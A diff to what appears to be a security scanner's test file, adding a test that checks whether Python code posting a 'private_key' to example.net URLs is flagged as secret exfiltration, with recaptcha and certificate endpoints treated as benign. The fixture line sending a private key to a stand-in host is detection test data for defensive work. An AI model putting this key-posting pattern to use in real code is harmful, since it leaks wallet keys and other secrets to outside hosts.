@@ -361,6 +361,15 @@ test('an assistant that hears and sees is no spy because it posts', async () => 
   assert.ok((await malice(tells)).includes('critical data-handling-spyware'));
 });
 
+test('a key called private opens a wallet, unless it is for something else', () => {
+  const sent = (where: string): string =>
+    `params = urlencode({'private_key': key, 'response': field})\nrequests.post("http://${where}", data=params)\n`;
+  assert.deepEqual(python(sent('example.net/recaptcha/api/verify')), []);
+  assert.deepEqual(python(sent('example.net/certificate')), []);
+  assert.deepEqual(python(sent('example.net/collect')), ['secret-file-sent']);
+  assert.deepEqual(python(sent('example.net/wallet/certificate')), ['secret-file-sent']);
+});
+
 async function malice(text: string): Promise<readonly string[]> {
   const { findings } = await scan(memoryTree({ 'pkg/module.py': text }));
   return findings.filter(({ kind }) => kind === 'malice').map(({ severity, checkId }) => `${severity} ${checkId}`);
